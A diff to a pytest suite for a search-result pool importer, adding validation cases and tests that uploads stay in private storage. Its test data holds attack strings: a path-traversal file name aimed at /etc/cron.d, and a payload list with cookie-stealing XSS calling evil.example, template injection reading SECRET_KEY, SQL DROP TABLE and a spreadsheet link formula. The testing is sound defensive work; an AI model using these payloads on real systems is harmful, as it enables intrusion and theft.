@@ -149,7 +149,7 @@ BAD_FILES = [
     ),
     jsonl_case(
         jsonl(serp(locale="fr-FR")),
-        [error(1, "locale", "\"fr-FR\" is not one of this project's locales (it-IT, de-DE)")],
+        [error(1, "locale", '"fr-FR" is not one of this project\'s locales (it-IT, de-DE)')],
         id="jsonl-locale-not-in-the-project",
     ),
     jsonl_case(
@@ -289,6 +289,21 @@ BAD_FILES = [
         id="jsonl-snippet-too-long",
     ),
     jsonl_case(
+        jsonl(serp(results=[result(1, url="https://video.example/" + "v" * 2027)])),
+        [error(1, "results[0].url", "is 2049 characters long; at most 2048 are allowed")],
+        id="jsonl-url-too-long",
+    ),
+    jsonl_case(
+        jsonl(serp(results=[result(1, doc_id="d" * 201)])),
+        [error(1, "results[0].doc_id", "is 201 characters long; at most 200 are allowed")],
+        id="jsonl-doc-id-too-long",
+    ),
+    jsonl_case(
+        jsonl(serp(category="c" * 101)),
+        [error(1, "category", "is 101 characters long; at most 100 are allowed")],
+        id="jsonl-category-too-long",
+    ),
+    jsonl_case(
         jsonl(serp(results=[result(1, title=42)])),
         [error(1, "results[0].title", "must be text, got 42")],
         id="jsonl-numeric-title",
@@ -322,7 +337,7 @@ BAD_FILES = [
     jsonl_case(
         jsonl(serp("q-100", locale="fr-FR"), serp("q-101", traffic=-1), serp("q-102", results=[result(2)])),
         [
-            error(1, "locale", "\"fr-FR\" is not one of this project's locales (it-IT, de-DE)"),
+            error(1, "locale", '"fr-FR" is not one of this project\'s locales (it-IT, de-DE)'),
             error(2, "traffic", "must not be negative, got -1"),
             error(3, "results", "ranks must run from 1 to 1 without gaps; 1 is missing"),
         ],
@@ -346,7 +361,7 @@ BAD_FILES = [
     ),
     csv_case(
         csv_file(CSV_HEADER + ",url", row() + ",https://video.example/v-1"),
-        [error(1, None, "a column name appears twice")],
+        [error(1, "url", "this column appears twice")],
         id="csv-duplicate-column",
     ),
     csv_case(
@@ -383,7 +398,7 @@ BAD_FILES = [
     ),
     csv_case(
         csv_file(CSV_HEADER, row("q-100", 1), row("q-101", 1), row("q-100", 1, doc_id="v-9")),
-        [error(4, "query_id", "query_id \"q-100\" is already at line 2; keep each SERP's rows together")],
+        [error(4, "query_id", 'query_id "q-100" is already at line 2; keep each SERP\'s rows together')],
         id="csv-rows-of-a-serp-apart",
     ),
     csv_case(
@@ -809,10 +824,16 @@ def test_csv_columns_may_come_in_any_order_and_rows_in_any_rank_order(project, i
     [
         pytest.param("pool.jsonl", b"\xef\xbb\xbf" + jsonl(serp("q-100"), serp("q-101")), id="jsonl-with-bom"),
         pytest.param("pool.jsonl", jsonl(serp("q-100"), serp("q-101")).replace(b"\n", b"\r\n"), id="jsonl-crlf"),
-        pytest.param("pool.jsonl", b"\n" + jsonl(serp("q-100")) + b"\n  \n" + jsonl(serp("q-101")) + b"\n\n", id="jsonl-blank-lines"),  # fmt: skip
+        pytest.param(
+            "pool.jsonl",
+            b"\n" + jsonl(serp("q-100")) + b"\n  \n" + jsonl(serp("q-101")) + b"\n\n",
+            id="jsonl-blank-lines",
+        ),  # fmt: skip
         pytest.param("pool.jsonl", jsonl(serp("q-100"), serp("q-101")).rstrip(b"\n"), id="jsonl-no-final-newline"),
         pytest.param("pool.csv", b"\xef\xbb\xbf" + csv_file(CSV_HEADER, row("q-100"), row("q-101")), id="csv-with-bom"),
-        pytest.param("pool.csv", csv_file(CSV_HEADER, row("q-100"), row("q-101")).replace(b"\n", b"\r\n"), id="csv-crlf"),  # fmt: skip
+        pytest.param(
+            "pool.csv", csv_file(CSV_HEADER, row("q-100"), row("q-101")).replace(b"\n", b"\r\n"), id="csv-crlf"
+        ),  # fmt: skip
         pytest.param("pool.csv", csv_file(CSV_HEADER, "", row("q-100"), "", row("q-101"), ""), id="csv-blank-lines"),
         pytest.param("upload", jsonl(serp("q-100"), serp("q-101")), id="jsonl-recognised-without-extension"),
         pytest.param("upload", csv_file(CSV_HEADER, row("q-100"), row("q-101")), id="csv-recognised-without-extension"),
@@ -835,11 +856,6 @@ def test_a_quoted_csv_snippet_keeps_its_commas(project, import_file):
     assert PoolResult.objects.get().snippet == "Guanciale, pecorino, pepper."
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="bug: projects/pool_format.py PoolReader._lines strips each line's ending before the csv "
-    "module sees it, so a line break inside a quoted CSV field is lost",
-)
 @pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
 def test_a_quoted_csv_snippet_keeps_its_line_breaks(project, import_file, newline):
     data = (
@@ -851,8 +867,9 @@ def test_a_quoted_csv_snippet_keeps_its_line_breaks(project, import_file, newlin
     job = import_file(project, data, name="pool.csv")
 
     assert job.status == "succeeded", job.errors
+    # Stored with a plain line feed either way, like every other text in evalconsole.
     assert list(PoolResult.objects.order_by("rank").values_list("snippet", flat=True)) == [
-        f"First line{newline}second line",
+        "First line\nsecond line",
         "plain",
     ]
 
@@ -871,26 +888,52 @@ def test_a_quoted_line_break_does_not_throw_off_the_line_numbers(project, import
     assert job.errors == [error(5, "rank", "rank 2 appears twice")]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="unclear message: projects/pool_format.py PoolReader._csv groups consecutive rows only, so a "
-    "SERP's rows split apart fail the rank check ('1 is missing') before the 'keep rows together' check",
-)
 def test_rows_of_one_serp_split_apart_are_reported_as_such(seeded_project, import_file):
     data = csv_file(CSV_HEADER, row("q-100", 1), row("q-101", 1), row("q-100", 2))
 
     job = import_file(seeded_project, data, name="pool.csv")
 
     assert job.errors == [
-        error(4, "query_id", "query_id \"q-100\" is already at line 2; keep each SERP's rows together")
+        error(4, "query_id", 'query_id "q-100" is already at line 2; keep each SERP\'s rows together')
     ]
 
 
-@pytest.mark.xfail(strict=True, reason="unclear message: pool_format.py names no column when one appears twice")
 def test_a_duplicate_column_is_named(seeded_project, import_file):
     job = import_file(seeded_project, csv_file(CSV_HEADER + ",url", row() + ",https://video.example/v-1"), name="p.csv")
 
     assert [e["field"] for e in job.errors] == ["url"]
+
+
+def test_a_tab_separated_file_is_read_by_its_tabs(project, import_file):
+    data = csv_file(CSV_HEADER.replace(",", "\t"), row().replace(",", "\t"))
+
+    job = import_file(project, data, name="pool.tsv")
+
+    assert (job.status, job.errors) == ("succeeded", [])
+
+
+def test_a_project_without_locales_takes_any_valid_tag(project, import_file):
+    project.locales = []
+    project.save()
+
+    data = jsonl(serp("q-1", locale="zh-Hant-TW"), serp("q-2", locale="es-419"), serp("q-3", locale="en"))
+
+    job = import_file(project, data)
+
+    assert (job.status, job.errors) == ("succeeded", [])
+    assert [s["locale"] for s in stored(project)] == ["zh-Hant-TW", "es-419", "en"]
+
+
+def test_a_file_name_cannot_steer_where_the_upload_is_kept(
+    project, owner, private_media, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks(execute=False):
+        job = upload(project, jsonl(serp("q-100")), owner, name="../../../etc/cron.d/evil.jsonl")
+
+    assert job.params["file"].startswith(f"pool-uploads/{project.pk}-")
+    assert job.params["file"].endswith(".jsonl")
+    assert default_storage.exists(job.params["file"])
+    assert default_storage.path(job.params["file"]).startswith(str(private_media))
 
 
 def test_side_by_side_pairs_import_with_both_variants(sbs_project, import_file):
@@ -950,7 +993,7 @@ PAYLOADS = [
     '"><svg/onload=fetch("https://evil.example/"+document.cookie)>',
     "{{ settings.SECRET_KEY }} {% debug %}",
     "'; DROP TABLE projects_poolserp; --",
-    "=HYPERLINK(\"https://evil.example\",\"click\")",
+    '=HYPERLINK("https://evil.example","click")',
     "C:\\temp\\new\\table \\N \\. \t tab",
     "first line\n\\.\nafter an end-of-data marker",
     "‮ right-to-left override 🧨 日本語",
